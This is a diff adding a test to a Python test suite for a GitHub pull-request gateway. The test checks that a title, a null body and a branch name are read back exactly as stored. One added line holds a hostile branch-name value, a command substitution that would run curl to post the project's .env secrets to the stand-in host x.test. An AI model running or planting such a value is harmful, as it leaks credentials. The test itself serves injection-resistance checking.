@@ -31,6 +31,16 @@ def test_pull_request_is_read_into_a_typed_answer(world: World) -> None:
     assert (pr.draft, pr.state) == (True, "open")
 
 
+def test_the_pull_requests_own_text_is_read_as_written(world: World) -> None:
+    hostile = "$({curl,-d,@.env,x.test})"
+    world.fake.state.add_pull(REPO, 10, head_ref=hostile)
+    pull = world.fake.state.repos[REPO].pulls[10]
+    pull.update(title="Fix `x`; again", body=None)
+    pr = world.gw.pull_request(REPO, 10)
+    # A description GitHub holds as null is empty text.
+    assert (pr.title, pr.body, pr.head_ref) == ("Fix `x`; again", "", hostile)
+
+
 def test_a_deleted_fork_reads_as_no_head_repository(world: World) -> None:
     world.fake.state.add_pull(REPO, 9, head_repo=None)
     assert world.gw.pull_request(REPO, 9).head_repo_full_name is None
